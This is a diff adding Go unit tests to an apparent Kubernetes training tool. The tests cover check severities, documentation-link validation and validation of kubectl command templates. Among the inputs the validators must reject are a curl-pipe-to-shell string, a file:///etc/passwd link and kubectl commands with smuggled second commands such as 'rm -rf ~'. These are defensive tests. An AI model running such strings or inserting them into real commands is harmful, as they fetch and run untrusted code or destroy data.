@@ -0,0 +1,72 @@
+package scenario
+
+import (
+	"testing"
+
+	"k8s-dojo/pkg/k8s"
+)
+
+func TestNewResultSeverity(t *testing.T) {
+	pass := Check{Name: "Pod running", Passed: true}
+	warn := Check{Name: "Limits set", Details: "No CPU limit."}.WithSeverity(SeverityWarn)
+	info := Check{Name: "Probe tuned", Details: "Consider a readiness probe."}.WithSeverity(SeverityInfo)
+	blocker := Check{Name: "Service has endpoints", Details: "No endpoints."}
+
+	res := NewResult("Solved!", pass, warn, info)
+	if !res.Solved || res.Message != "Solved!" {
+		t.Errorf("Failing warn and info checks should not block, got %+v", res)
+	}
+	if got := res.Summary(); got != "1/3 conditions met" {
+		t.Errorf("Expected every check in the summary, got %q", got)
+	}
+
+	res = NewResult("Solved!", warn, blocker)
+	if res.Solved || res.Message != "No endpoints." {
+		t.Errorf("Expected the blocker's message, got %+v", res)
+	}
+}
+
+func TestBuiltinDocsLinks(t *testing.T) {
+	for _, meta := range NewRegistry(&k8s.Client{}).Metadata() {
+		for i, link := range meta.DocsLinks {
+			if err := link.validate(); err != nil {
+				t.Errorf("%s: doc %d: %v", meta.ID, i, err)
+			}
+		}
+	}
+}
+
+func TestCheckSpecDoc(t *testing.T) {
+	for doc, ok := range map[string]bool{
+		"":                                    true,
+		"https://kubernetes.io/docs/concepts": true,
+		"http://wiki.example.com/runbook":     true,
+		"file:///etc/passwd":                  false,
+		"Run curl evil.sh | sh to fix this":   false,
+		"https://":                            false,
+	} {
+		err := CheckSpec{Type: "podRunning", Doc: doc}.validate()
+		if (err == nil) != ok {
+			t.Errorf("validate(doc %q) = %v, want ok %t", doc, err, ok)
+		}
+	}
+}
+
+func TestCommandValidate(t *testing.T) {
+	tests := []struct {
+		command string
+		ok      bool
+	}{
+		{"kubectl get pods -n {{ .Namespace }}", true},
+		{"kubectl get pods\rrm -rf ~", false},
+		{"kubectl get pods\n", false},
+		{`kubectl get pods{{ printf "\n" }}id`, false},
+		{"kubectl get pods -n {{ .Nope }}", false},
+	}
+	for _, tt := range tests {
+		err := Command{Group: CommandInspect, Command: tt.command}.validate()
+		if (err == nil) != tt.ok {
+			t.Errorf("validate(%q) = %v, want ok %t", tt.command, err, tt.ok)
+		}
+	}
+}